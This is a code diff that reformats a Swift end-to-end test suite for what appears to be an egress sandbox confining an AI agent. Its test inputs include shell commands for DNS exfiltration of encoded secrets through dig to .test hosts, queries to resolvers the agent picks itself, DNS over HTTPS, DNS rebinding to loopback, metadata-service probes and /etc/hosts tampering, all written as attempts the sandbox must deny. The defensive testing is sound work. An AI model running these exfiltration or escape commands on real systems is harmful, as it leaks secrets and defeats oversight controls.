@@ -18,7 +18,8 @@ extension EndToEnd {
 
         @Test("B01: a name that no rule mentions is answered here and never asked upstream")
         func deniedName() throws {
-            let script = "dig +short czNjcjN0LVJFQUw.denied.test; dig +short -t AAAA czNjcjN0LVJFQUw.denied.test"
+            let script =
+                "dig +short czNjcjN0LVJFQUw.denied.test; dig +short -t AAAA czNjcjN0LVJFQUw.denied.test"
             let control = try place.unconfined(script, in: internet)
             #expect(control.queries.contains("czNjcjN0LVJFQUw.denied.test".lowercased()), "\(control)")
             let attempt = try place.attempt(script, in: internet)
@@ -33,12 +34,17 @@ extension EndToEnd {
             let attempt = try place.attempt(script, in: internet)
             #expect(attempt.queries.isEmpty, "\(attempt)")
             #expect(attempt.denial?.reason == "no-rule")
-            #expect(try place.unconfined(script, in: internet).queries.contains("czNjcjN0.denied.test".lowercased()))
+            #expect(
+                try place.unconfined(script, in: internet).queries.contains(
+                    "czNjcjN0.denied.test".lowercased()
+                )
+            )
         }
 
         @Test("B02: under an allowed suffix a name is asked upstream only when a request for it is permitted")
         func allowedSuffix() throws {
-            let policy = "extends: [base]\negress: [{to: \"http://*.allowed.test\", allow: [\"GET /v1/**\"]}]\n"
+            let policy =
+                "extends: [base]\negress: [{to: \"http://*.allowed.test\", allow: [\"GET /v1/**\"]}]\n"
             let attempt = try place.attempt(
                 """
                 for i in $(seq 100); do echo "s3cr3t-$i.allowed.test"; done > names
@@ -53,7 +59,10 @@ extension EndToEnd {
             #expect(Set(attempt.queries) == ["used.allowed.test"], "\(attempt)")
         }
 
-        @Test("B03 B04: a query to a resolver of the agent's choice is answered here", arguments: ["+notcp", "+tcp"])
+        @Test(
+            "B03 B04: a query to a resolver of the agent's choice is answered here",
+            arguments: ["+notcp", "+tcp"]
+        )
         func directResolver(transport: String) throws {
             let script = "dig \(transport) +short +time=2 +tries=1 @8.8.8.8 b03.denied.test"
             let control = try place.unconfined(script, in: internet)
@@ -65,7 +74,9 @@ extension EndToEnd {
 
         @Test(
             "B06: DNS over HTTPS is a request like any other: denied unless named",
-            arguments: ["https://1.1.1.1/dns-query?name=b06.test", "https://dns.google/resolve?name=b06.test"]
+            arguments: [
+                "https://1.1.1.1/dns-query?name=b06.test", "https://dns.google/resolve?name=b06.test",
+            ]
         )
         func overHTTPS(url: String) throws {
             let attempt = try place.attempt("curl -sk -m5 '\(url)'", in: internet)
@@ -90,9 +101,17 @@ extension EndToEnd {
         @Test("B08: a name that turns to loopback after its first answer is not followed there")
         func rebinding() throws {
             let policy = rules("to: \"http://rebind-b08.test\"")
-            let first = try place.attempt("curl -sS -m5 http://rebind-b08.test/b08", profile: policy, in: internet)
+            let first = try place.attempt(
+                "curl -sS -m5 http://rebind-b08.test/b08",
+                profile: policy,
+                in: internet
+            )
             #expect(first.output.contains("reached"), "\(first)")
-            let second = try place.attempt("curl -sS -m5 http://rebind-b08.test/b08", profile: policy, in: internet)
+            let second = try place.attempt(
+                "curl -sS -m5 http://rebind-b08.test/b08",
+                profile: policy,
+                in: internet
+            )
             #expect(second.denial?.reason == "forbidden-address", "\(second)")
             #expect(second.denial?.message.contains("127.0.0.1") == true)
             #expect(second.sink.isEmpty, "\(second)")
@@ -138,7 +157,9 @@ extension EndToEnd {
 
         @Test(
             "B12: an allowed name never leads to a metadata service, not even with private: true",
-            arguments: ["metadata.test", "metadata6.test", "ali.test", "wire.test", "mapped.test", "nat64.test"]
+            arguments: [
+                "metadata.test", "metadata6.test", "ali.test", "wire.test", "mapped.test", "nat64.test",
+            ]
         )
         func metadata(name: String) throws {
             let attempt = try place.attempt(
@@ -166,7 +187,10 @@ extension EndToEnd {
             #expect(twin.sink.contains { $0.contains("bytes to 93.184.216.200 80") }, "\(twin)")
         }
 
-        @Test("B15: a synthetic address that was never handed out leads nowhere", arguments: ["https", "http"])
+        @Test(
+            "B15: a synthetic address that was never handed out leads nowhere",
+            arguments: ["https", "http"]
+        )
         func unknownAddress(scheme: String) throws {
             let attempt = try place.attempt("curl -sk -m5 \(scheme)://198.18.200.200/v1/x", in: internet)
             #expect(attempt.denied.count == 1, "\(attempt)")
@@ -223,7 +247,10 @@ extension EndToEnd {
             #expect(attempt.sink.isEmpty, "\(attempt)")
             #expect(attempt.denied.count == 1, "\(attempt)")
             #expect(!attempt.output.contains("reached"), "\(attempt)")
-            let edit = try place.attempt("echo 93.184.216.66 allowed.test >> /etc/hosts; echo $?", in: internet)
+            let edit = try place.attempt(
+                "echo 93.184.216.66 allowed.test >> /etc/hosts; echo $?",
+                in: internet
+            )
             #expect(edit.output != "0\n", "\(edit)")
         }
     }
